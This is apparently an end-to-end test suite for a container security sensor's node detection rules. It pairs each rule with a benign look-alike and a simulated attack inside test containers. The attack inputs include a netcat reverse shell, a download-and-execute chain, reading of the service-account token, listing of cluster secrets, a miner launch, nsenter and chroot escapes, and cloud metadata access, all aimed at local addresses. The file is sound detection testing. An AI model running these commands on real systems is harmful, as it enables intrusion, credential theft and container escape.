/**
 * Every node rule against real processes: a real containerd runs the pods
 * (CRI, as kubelet drives it) and a container outside Kubernetes (ctr); the
 * real sensor streams to a real control plane, whose store holds the
 * alerts. Each rule gets its attack and its close-but-benign look-alike, in
 * the same container and before the attack, so that the attack's alert
 * arriving proves the look-alike was judged and stayed silent.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startSensor, type RunningSensor } from '../../../sensor/src/cli/sensor-run';
import { cFixture } from '../../helpers/c-fixture';
import { TEST_IMAGE, TestContainerd, containerdTestOptions, type RunningPod } from '../../helpers/containerd';
import { runVigil } from '../../helpers/vigil-cli';
import { listRules } from '../../../controlplane/src/cli/rules';
import { startTestControlPlane, type TestControlPlane } from '../../helpers/controlplane';
import { kernelTestOptions } from '../../helpers/kernel-gate';
import { run } from '../../helpers/processes';
import { tempDir } from '../../helpers/temp-dir';

interface StoredAlert {
  rule_id: string;
  container_id: string;
  summary: string;
  fields: Record<string, string>;
}

const API_HOST = '127.0.0.77';
const API_ENV = { KUBERNETES_SERVICE_HOST: API_HOST, KUBERNETES_SERVICE_PORT: '6443' };
const FEED_ADDRESS = '45.155.205.233';

describe('node rules on real containers and processes', { ...containerdTestOptions(), ...kernelTestOptions(), timeout: 240_000 }, () => {
  let ctd: TestContainerd;
  let cp: TestControlPlane;
  let sensor: RunningSensor;
  let tools: string;
  const logs: string[] = [];

  function alerts(): StoredAlert[] {
    return cp.query<{ rule_id: string; container_id: string; body: string }>('SELECT rule_id, container_id, body FROM alerts ORDER BY id').map((r) => {
      const a = JSON.parse(r.body) as { summary: string; evidence?: { fields?: Record<string, string> } };
      return { rule_id: r.rule_id, container_id: r.container_id, summary: a.summary, fields: a.evidence?.fields ?? {} };
    });
  }

  async function waitForAlert(rule: string, where: string, match: (a: StoredAlert) => boolean = () => true, ms = 20_000): Promise<StoredAlert> {
    const deadline = Date.now() + ms;
    for (;;) {
      const hit = alerts().find((a) => a.rule_id === rule && a.container_id === where && match(a));
      if (hit) return hit;
      if (Date.now() > deadline)
        throw new Error(`no such ${rule} alert for ${where || 'the host'} within ${ms} ms; have: ${alerts().map((a) => `${a.rule_id}@${a.container_id.slice(0, 8)}${a.rule_id === rule ? ` (${a.summary})` : ''}`).join(' ')}\n${logs.join('\n')}`);
      await new Promise((r) => setTimeout(r, 50));
    }
  }

  function silent(rule: string, where: string, match: (a: StoredAlert) => boolean = () => true): void {
    const hit = alerts().find((a) => a.rule_id === rule && a.container_id === where && match(a));
    assert.equal(hit, undefined, `${rule} raised on a benign look-alike: ${hit?.summary}`);
  }

  before(async () => {
    ctd = await TestContainerd.start();
    const dataDir = tempDir('vigil-rules-e2e-');
    fs.mkdirSync(path.join(dataDir, 'intel'), { recursive: true });
    // A feed in Spamhaus form: the attack address's network, and a private range real feeds carry.
    fs.writeFileSync(path.join(dataDir, 'intel', 'drop.txt'), `; test feed\n45.155.204.0/23 ; SBL582104\n10.13.0.0/16 ; private\n`);
    cp = await startTestControlPlane({ dataDir, log: (l) => logs.push(l) });
    sensor = startSensor(
      { dataDir, controlplane: cp.target, tokenFile: cp.tokenFile, nodeName: 'node-e2e', ringBytes: 16 * 1024 * 1024, batchInterval: 50, criSocket: ctd.socket, ociBundleRoot: [] },
      'test',
      (l) => logs.push(l),
    );
    // Stand-ins the pods run from a read-only host directory: a static "server" that runs
    // its arguments as a child, and busybox under the names of tools the image lacks.
    tools = tempDir('vigil-tools-');
    const server = cFixture('fake-server', ['-static']);
    for (const name of ['nginx', 'php-fpm']) fs.copyFileSync(server, path.join(tools, name));
    fs.copyFileSync(cFixture('new-mount-api', ['-static']), path.join(tools, 'new-mount-api'));
    for (const name of ['kubectl', 'apt-get', 'xmrig', 'sshd', 'ssh-keygen']) fs.copyFileSync('/bin/busybox', path.join(tools, name));
    for (const f of fs.readdirSync(tools)) fs.chmodSync(path.join(tools, f), 0o755);
  });

  after(async () => {
    await sensor?.stop();
    await cp?.stop();
    await ctd?.stop();
  });

  const exec = (pod: RunningPod, cmd: string[]) => ctd.exec(pod.containerId, cmd);

  test('a workload pod: web shell, runtime shells, tools, API access, downloads, miners, sshd, reverse shells', async () => {
    const web = await ctd.runPod({
      name: 'web',
      namespace: 'shop',
      labels: { app: 'web' },
      env: API_ENV,
      hostPaths: [{ host: tools, container: '/opt/www', readonly: true }],
      // The entrypoint's script starts a shell of its own: the image's design.
      command: ['/bin/sh', '-c', 'sleep 0.3; /bin/sh -c "sleep 600"'],
    });
    const id = web.containerId;
    // Look-alikes first.
    await exec(web, ['/bin/sh', '-c', '/opt/www/nginx -t']);
    await exec(web, ['/opt/www/php-fpm', '/bin/sh', '-c', '/usr/sbin/sendmail -t -i']);
    await exec(web, ['/opt/www/apt-get', '--version']);
    await exec(web, ['/bin/sh', '-c', 'wget -q -T 1 -O /tmp/report.json http://127.0.0.1:9/r; /bin/date']);
    await exec(web, ['/bin/sleep', '0']);
    await exec(web, ['/opt/www/ssh-keygen', '-A']);
    await exec(web, ['/bin/nc', '-z', '-w', '1', '127.0.0.1', '9']);
    // A readiness check on /dev/tcp (busybox sh has none: the redirect fails) and a health probe: no shell is wired to a socket.
    await exec(web, ['/bin/sh', '-c', 'echo > /dev/tcp/127.0.0.1/9 2>/dev/null; wget -q -T 1 -O - http://localhost:9/health; true']);
    // Attacks.
    await exec(web, ['/opt/www/nginx', '/bin/sh', '-c', '/bin/id; /bin/uname -a']);
    await exec(web, ['/bin/sh', '-c', 'echo kubectl-exec-shell']);
    await exec(web, ['/bin/nc', '-w', '1', API_HOST, '6443']);
    await exec(web, ['/bin/sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; true']);
    await exec(web, ['/opt/www/kubectl', 'get', 'secrets', '-A']);
    await exec(web, ['/opt/www/apt-get', 'install', '-y', 'nmap']);
    await exec(web, ['/bin/sh', '-c', 'wget -q -T 1 -O /tmp/payload http://127.0.0.1:9/x; chmod +x /tmp/payload; /tmp/payload']);
    await exec(web, ['/opt/www/xmrig', '-o', 'stratum+tcp://127.0.0.1:3333', '-u', 'x']);
    await exec(web, ['/opt/www/sshd', '-D']);
    await exec(web, ['/bin/nc', '-e', '/bin/sh', '127.0.0.1', '9']);
    // A terminal: exec -t through ctr, with a pty from script(1), as kubectl exec -it gets one.
    execFileSync('script', ['-qec', `ctr -a ${ctd.socket} -n k8s.io task exec -t --exec-id tty1 ${id} /bin/sh -c true`, '/dev/null'], { stdio: 'ignore' });

    const shell = await waitForAlert('web-shell-activity', id, (a) => /\/bin\/sh/.test(a.summary));
    assert.equal(shell.fields.server, '/opt/www/nginx');
    await waitForAlert('web-shell-activity', id, (a) => a.fields.command_line?.startsWith('/bin/id') || a.fields.command_line?.startsWith('/bin/uname'));
    const runtime = await waitForAlert('shell-in-container', id, (a) => a.summary.includes('kubectl-exec-shell'));
    assert.equal(runtime.fields.origin, 'runtime-exec');
    await waitForAlert('terminal-shell-in-container', id);
    await waitForAlert('api-server-access-from-container', id, (a) => a.fields.destination === `${API_HOST}:6443`);
    await waitForAlert('api-server-access-from-container', id, (a) => a.fields.token === 'true');
    await waitForAlert('cluster-client-in-container', id);
    await waitForAlert('package-manager-in-container', id, (a) => a.summary.includes('install'));
    await waitForAlert('download-and-execute', id, (a) => a.summary.includes('/tmp/payload'));
    await waitForAlert('crypto-mining', id);
    await waitForAlert('ssh-server-in-container', id);
    await waitForAlert('reverse-shell', id);

    silent('web-shell-activity', id, (a) => /nginx -t|sendmail/.test(a.summary));
    silent('shell-in-container', id, (a) => a.summary.includes('sleep 600'));
    silent('package-manager-in-container', id, (a) => a.summary.includes('--version'));
    silent('download-and-execute', id, (a) => /report\.json|\/bin\/date/.test(a.summary));
    silent('crypto-mining', id, (a) => a.summary.includes('sleep'));
    silent('ssh-server-in-container', id, (a) => a.summary.includes('ssh-keygen'));
    silent('reverse-shell', id, (a) => a.summary.includes('-z') || a.summary.includes('/dev/tcp'));
    silent('terminal-shell-in-container', id, (a) => a.summary.includes('kubectl-exec-shell'));
    silent('privileged-container-started', id);
    silent('sensitive-host-mount-started', id);
  });

  test('a privileged pod with the node\'s /etc: privileges, mounts in the container, escapes, cloud metadata', async () => {
    const jail = tempDir('vigil-host-jail-');
    const priv = await ctd.runPod({
      name: 'agent',
      namespace: 'ops',
      privileged: true,
      hostPaths: [{ host: '/etc', container: '/host-etc', readonly: true }, { host: jail, container: '/host' }, { host: tools, container: '/opt/tools', readonly: true }],
      command: ['/bin/sh', '-c', 'sleep 600'],
    });
    const id = priv.containerId;
    await exec(priv, ['/bin/sh', '-c', 'mkdir -p /tmp/t /tmp/p && mount -t tmpfs tmpfs /tmp/t && umount /tmp/t']);
    await exec(priv, ['/bin/chroot', '/tmp', '/bin/true']);
    await exec(priv, ['/bin/sh', '-c', 'mount -t proc proc /tmp/p && umount /tmp/p']);
    // The new mount API (fsopen, fsmount, move_mount), as util-linux 2.39+ mount uses it: what is mounted is not in the events.
    await exec(priv, ['/opt/tools/new-mount-api', '/tmp/t']);
    await exec(priv, ['/bin/nsenter', '-t', '1', '-m', '/bin/true']);
    await exec(priv, ['/bin/chroot', '/host', '/bin/true']);
    // The metadata address lives on lo of a network namespace made for the purpose: nothing leaves the machine.
    await exec(priv, ['/bin/sh', '-c', 'unshare -n sh -c "ip link set lo up; ip addr add 169.254.169.254/32 dev lo; nc -w 1 169.254.169.254 80 </dev/null; true"']);

    const started = await waitForAlert('privileged-container-started', id);
    assert.equal(started.fields.privileged, 'true');
    const mount = await waitForAlert('sensitive-host-mount-started', id);
    assert.match(mount.fields.host_mounts, /^\/etc:\/host-etc:ro$/);
    await waitForAlert('sensitive-mount-in-container', id, (a) => a.fields.fstype === 'proc');
    await waitForAlert('sensitive-mount-in-container', id, (a) => a.fields.exposure?.includes('new mount API'));
    await waitForAlert('container-escape-tool', id, (a) => a.fields.tool === 'nsenter');
    await waitForAlert('container-escape-tool', id, (a) => a.fields.tool === 'chroot' && a.fields.host_path === jail);
    await waitForAlert('cloud-metadata-access', id, (a) => a.fields.destination === '169.254.169.254:80');
    silent('sensitive-mount-in-container', id, (a) => a.fields.fstype === 'tmpfs' || a.summary.includes('/proc/self/fd'));
    silent('container-escape-tool', id, (a) => a.fields.command_line === '/bin/chroot /tmp /bin/true');
  });

  test('an added capability, an operator talking to its API, a kubectl Job: only the capability alerts', async () => {
    const ptrace = await ctd.runPod({ name: 'debugger', namespace: 'ops', addCapabilities: ['SYS_PTRACE'], command: ['/bin/sleep', '600'] });
    const operator = await ctd.runPod({ name: 'operator', namespace: 'ops', env: API_ENV, command: ['/bin/nc', '-w', '1', API_HOST, '6443'] });
    const job = await ctd.runPod({ name: 'restart-job', namespace: 'ops', hostPaths: [{ host: tools, container: '/opt/www', readonly: true }], command: ['/opt/www/kubectl', 'rollout', 'restart'] });
    const a = await waitForAlert('privileged-container-started', ptrace.containerId);
    assert.equal(a.fields.dangerous_capabilities, 'SYS_PTRACE');
    // The pods above have run their entrypoints by now; give their events the time the first alert took.
    await exec(ptrace, ['/bin/true']);
    await new Promise((r) => setTimeout(r, 1500));
    silent('api-server-access-from-container', operator.containerId);
    silent('cluster-client-in-container', job.containerId);
    silent('privileged-container-started', operator.containerId);
  });

  test('a privileged container started with ctr, outside the CRI (the blind spot of issue 8), and a plain one', async () => {
    // 64 hex characters, as Docker, nerdctl and the CRI name containers.
    const plain = ctd.runOutside(randomBytes(32).toString('hex'), ['/bin/sh', '-c', 'sleep 600']);
    const privileged = ctd.runOutside(randomBytes(32).toString('hex'), ['/bin/sh', '-c', 'sleep 600'], { privileged: true });
    const a = await waitForAlert('privileged-container-started', privileged.id);
    assert.equal(a.fields.runtime, 'default');
    assert.match(a.summary, /outside any pod/);
    await new Promise((r) => setTimeout(r, 1000));
    silent('privileged-container-started', plain.id);
  });

  test('vigil simulate --node with a runtime: every node rule alerts, and nothing is left behind', async () => {
    const sim = await runVigil(['simulate', '--node', '--json', '--data-dir', cp.dataDir, '--cri-socket', ctd.socket, '--image', TEST_IMAGE, '--timeout', '30s']);
    const outcomes: { rule_id: string; alerted: boolean; skipped?: string }[] = sim.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l));
    assert.deepEqual(outcomes.filter((o) => !o.alerted), [], sim.stderr);
    assert.equal(outcomes.length, listRules().filter((r) => r.kind === 'node').length);
    assert.equal(sim.code, 0);
    const pods = await ctd.call<{ items: { metadata: { namespace: string } }[] }>('ListPodSandbox', {});
    assert.deepEqual(pods.items.filter((p) => p.metadata.namespace === 'vigil-simulate'), [], 'the simulated pod is removed');
    assert.deepEqual(fs.readdirSync(path.join(cp.dataDir, 'intel')), ['drop.txt'], 'the temporary feed is removed');
  });

  test('connections to feed-listed addresses (host processes, in a network namespace made for the test)', async () => {
    const script = `ip link set lo up; ip addr add ${FEED_ADDRESS}/32 dev lo; ip addr add 10.13.0.5/32 dev lo;
      busybox nc -w 1 10.13.0.5 443 </dev/null; busybox nc -w 1 45.156.0.1 443 </dev/null; busybox nc -w 1 ${FEED_ADDRESS} 443 </dev/null; true`;
    const r = await run('unshare', ['-n', 'sh', '-c', script]);
    assert.equal(r.code, 0, r.stderr);
    const a = await waitForAlert('malicious-ip-connection', '', (x) => x.fields.destination === `${FEED_ADDRESS}:443`);
    assert.equal(a.fields.feed, 'drop.txt');
    assert.equal(a.fields.entry, '45.155.204.0/23');
    assert.equal(a.fields.label, 'SBL582104');
    silent('malicious-ip-connection', '', (x) => /10\.13\.0\.5|45\.156\.0\.1/.test(x.fields.destination));
    assert.ok(logs.some((l) => /drop\.txt: skipped 1 entries/.test(l)), 'the private range in the feed was reported once');
  });
});
